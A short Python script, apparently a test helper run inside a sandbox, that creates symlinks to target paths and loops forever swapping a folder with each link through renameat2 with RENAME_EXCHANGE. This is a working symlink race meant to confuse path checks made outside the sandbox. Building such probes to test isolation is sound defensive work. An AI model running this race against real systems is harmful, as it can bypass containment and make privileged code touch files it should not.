"""In the box: exchange a folder with each of several links in turn, as fast as it goes, for ever."""

# Inside a box the bare calls are the attack.
# ruff: noqa: PTH102, PTH123, PTH211

import ctypes
import json
import os
import sys

LIBRARY = ctypes.CDLL(None, use_errno=True)
EXCHANGE = 2
AT_FDCWD = -100

task = json.loads(sys.argv[1])
os.chdir("/workspace")
os.mkdir("door")
with open("door/file", "w") as file:
    file.write("inside")
links = []
for number, target in enumerate(task["targets"]):
    os.symlink(target, f"link{number}")
    links.append(f"link{number}".encode())
print("swapping", flush=True)
while True:
    for link in links:
        for _ in range(2):
            if LIBRARY.renameat2(AT_FDCWD, b"door", AT_FDCWD, link, EXCHANGE) != 0:
                raise OSError(ctypes.get_errno(), "renameat2")
